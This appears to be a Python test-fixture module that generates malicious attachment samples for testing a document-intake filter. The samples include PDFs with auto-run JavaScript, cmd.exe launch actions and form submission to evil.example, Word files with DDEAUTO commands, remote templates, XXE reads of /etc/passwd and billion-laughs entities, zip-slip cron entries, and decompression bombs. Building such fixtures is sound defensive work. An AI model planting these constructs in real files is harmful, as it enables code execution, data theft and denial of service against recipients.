"""Documents with something alive in them, archives that are traps, halves."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Iterator

from tests.intake.attachments.files import DOCX, ODT, XLSX, Sent, archive, docx, odt, pdf, relations, xlsx

_MACRO = "application/vnd.ms-word.document.macroEnabled.main"
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {chr(98 + n)} "{"&" + chr(97 + n) + ";"}{"&" + chr(97 + n) + ";"}">' for n in range(20)
    )
    + "]><a>&u;</a>"
)


def hostile_documents() -> Iterator[Sent]:
    """All of them."""
    for case, content in _pdfs():
        yield Sent(case, "answer.pdf", "application/pdf", content)
    for case, content in _words():
        yield Sent(case, "answer.docx", DOCX, content)
    for case, content in _sheets():
        yield Sent(case, "table.xlsx", XLSX, content)
    for case, content in _open_texts():
        yield Sent(case, "answer.odt", ODT, content)
    yield from _others()


def _pdfs() -> Iterator[tuple[str, bytes]]:
    script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    yield "script at opening", pdf(script, catalog="/OpenAction 4 0 R")
    yield (
        "script by name",
        pdf("<< /Names [(a) 5 0 R] >>", script, catalog="/Names << /JavaScript 4 0 R >>"),
    )
    yield "script with a hidden name", pdf("<< /S /J#61vaScript /J#53 (a) >>", catalog="/OpenAction 4 0 R")
    yield "script at closing", pdf(script, catalog="/AA << /WC 4 0 R >>")
    yield "a program is launched", pdf("<< /S /Launch /F (cmd.exe) >>", catalog="/OpenAction 4 0 R")
    yield "form sent away", pdf("<< /S /SubmitForm /F (http://evil.example/) >>", catalog="/OpenAction 4 0 R")
    yield "data fetched", pdf("<< /S /ImportData /F (a.fdf) >>", catalog="/OpenAction 4 0 R")
    yield (
        "remote document",
        pdf("<< /S /GoToR /F (\\\\\\\\evil\\\\a) /D [0 /Fit] >>", catalog="/OpenAction 4 0 R"),
    )
    file = "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"
    yield (
        "file inside",
        pdf(
            file,
            "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            catalog="/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
        ),
    )
    yield "rich media", pdf("<< /Type /Annot /Subtype /RichMedia >>")
    yield "XFA form", pdf("<< /XFA (form) >>", catalog="/AcroForm 4 0 R")
    yield (
        "locked",
        pdf("<< /Filter /Standard /V 1 /R 2 /O (a) /U (b) /P -4 >>", trailer="/Encrypt 4 0 R /ID [(a) (a)]"),
    )
    yield "half a PDF", pdf()[:120]
    yield "no PDF behind its head", b"%PDF-1.7\n" + bytes(300)
    yield "PDF and archive", pdf() + archive({"run.js": "alert(1)"})
    yield "page before the PDF", b"<html><script>alert(1)</script></html>\n" + pdf()
    bomb = zlib.compress(zlib.compress(bytes(100_000_000), 1))
    stream = (
        f"<< /Type /ObjStm /N 1 /First 5 /Filter [/FlateDecode /FlateDecode] /Length {len(bomb)} >>\nstream\n"
        + bomb.decode("latin-1")
        + "\nendstream"
    )
    yield "bomb in a bomb", pdf(stream, catalog="/OpenAction 4 0 R")
    yield "pages that are their own", pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")


def _words() -> Iterator[tuple[str, bytes]]:
    yield "macros", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield "macros by type", docx(kind=_MACRO)
    yield "object inside", docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(100)})
    yield "document inside", docx({"word/embeddings/a.docx": docx()})
    yield "ActiveX", docx({"word/activeX/activeX1.xml": "<a/>"})
    away = ("attachedTemplate", "http://evil.example/a.dotm", "External")
    yield "template from elsewhere", docx({"word/_rels/settings.xml.rels": relations(away)})
    away = ("image", "file://evil.example/share/a.png", "External")
    yield "picture from elsewhere", docx({"word/_rels/document.xml.rels": relations(away)})
    yield "command in a field", docx(body='<a><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></a>')
    yield "billion laughs", docx({"word/styles.xml": _LAUGHS})
    outside = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'
    yield "entity of a file", docx(body=outside)
    yield "laughs in UTF-16", docx({"word/styles.xml": _LAUGHS.encode("utf-16")})
    yield "zip slip", docx({"../../../etc/cron.d/a": "* * * * * root sh"})
    yield "zip slip to Windows", docx({"..\\..\\a.bat": "calc"})
    yield "absolute entry", docx({"/etc/passwd": "root"})
    yield "bomb", docx({"word/media/a.xml": bytes(150_000_000)})
    yield "entries without end", docx({f"word/a{number}.xml": "" for number in range(5_000)})
    yield "the same entry twice", _doubled()
    yield "locked entries", _locked(docx())
    yield "length that is a lie", _lying(docx({"word/media/a.xml": bytes(20_000_000)}))
    yield "half a document", docx()[:300]
    yield "archive called document", archive({"a.txt": "a"})
    yield "archive in an archive", docx({"word/media/a.zip": archive({"a": archive({"b": "c"})})})
    yield "program among media", docx({"word/media/image1.exe": b"MZ"})
    yield "program called picture", docx({"word/media/image1.png": b"MZ" + bytes(300)})
    yield "archive behind the document", docx() + b"<script>alert(1)</script>" + bytes(70_000)


def _sheets() -> Iterator[tuple[str, bytes]]:
    yield "macros", xlsx({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield "old macros", xlsx({"xl/macrosheets/sheet1.xml": "<a/>"})
    yield (
        "command in a link",
        xlsx({"xl/externalLinks/externalLink1.xml": '<e><ddeLink ddeService="cmd"/></e>'}),
    )
    away = ("externalLinkPath", "http://evil.example/a.xlsx", "External")
    yield "sheet elsewhere", xlsx({"xl/externalLinks/_rels/externalLink1.xml.rels": relations(away)})
    yield "connection", xlsx({"xl/connections.xml": "<connections/>"})
    yield "a document called sheet", docx()


def _open_texts() -> Iterator[tuple[str, bytes]]:
    yield "macros", odt({"Basic/Standard/Module1.xml": "<a>Shell</a>"})
    yield "scripts", odt({"Scripts/python/a.py": "import os"})
    yield "object inside", odt({"Object 1": b"\xd0\xcf\x11\xe0"})
    yield (
        "script in the text",
        odt({"content.xml": '<office><script:event-listener href="vnd.sun.star.script:a"/></office>'}),
    )
    yield "another type", odt(first="application/vnd.oasis.opendocument.text-master")


def _others() -> Iterator[Sent]:
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield Sent("old Word", "a.doc", "application/msword", old)
    yield Sent("old Word called new", "a.docx", DOCX, old)
    yield Sent("RTF", "a.rtf", "application/rtf", b"{\\rtf1{\\object\\objocx}}")
    yield Sent("archive", "a.zip", "application/zip", archive({"a.txt": "a"}))
    yield Sent("RAR", "a.rar", "application/vnd.rar", b"Rar!\x1a\x07\x01\0" + bytes(100))
    yield Sent("7z", "a.7z", "application/x-7z-compressed", b"7z\xbc\xaf\x27\x1c" + bytes(100))
    yield Sent(
        "Java", "a.jar", "application/java-archive", archive({"META-INF/MANIFEST.MF": "Main-Class: A"})
    )
    yield Sent(
        "Android", "a.apk", "application/vnd.android.package-archive", archive({"AndroidManifest.xml": "a"})
    )
    yield Sent("help", "a.chm", "application/vnd.ms-htmlhelp", b"ITSF\x03\0\0\0" + bytes(100))
    yield Sent("XML", "a.xml", "application/xml", _LAUGHS.encode())


def _doubled() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        made.fp.seek(made.start_dir)  # type: ignore[union-attr]
        info = zipfile.ZipInfo("word/document.xml")
        made.NameToInfo.pop("word/document.xml")
        made.writestr(info, "<a>another text</a>")
    return out.getvalue()


def _locked(content: bytes) -> bytes:
    """The bit of encryption is set in every entry."""
    changed = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + place] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


def _lying(content: bytes) -> bytes:
    """Every entry says that it unpacks to ten bytes."""
    changed = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + place : at + place + 4] = (10).to_bytes(4, "little")
            at = changed.find(mark, at + 4)
    return bytes(changed)
